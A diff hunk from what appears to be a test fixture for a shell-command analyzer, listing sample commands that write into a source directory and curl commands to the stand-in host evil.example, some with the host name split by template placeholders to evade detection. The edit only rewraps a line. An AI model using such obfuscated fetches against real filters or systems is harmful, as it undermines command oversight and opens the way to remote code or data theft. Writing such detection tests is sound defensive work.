@@ -178,7 +178,8 @@ _REACHES = {
         "mv other/src .", "cp --target-directory=. other/src", "cp -t . other/src", "cp --target=. other/src",
         "cp -rt. other/src", "ln -sf x/src .", "ln -s x/src", "install other/src/x src", "rsync -a other/src .",
         "scp h:x/src .", "tar --ext -f a", "bsdtar xf a", "7z x a.7z", "gzip -r .", "zstd -rf --rm .",
-        "patch -i x", "git checkout-index -a", "echo x > $f", "tee $x", "cp README.md $OUT/b", "sort -uosrc/a b", "touch $x",
+        "patch -i x", "git checkout-index -a", "echo x > $f", "tee $x", "cp README.md $OUT/b",
+        "sort -uosrc/a b", "touch $x",
     ),
     "web_fetch(evil.example)": (
         "curl http://evil.exa${{x}}mple/", "curl http://{{e}}vil.example", "curl 'http://{{e}}vil.example'",
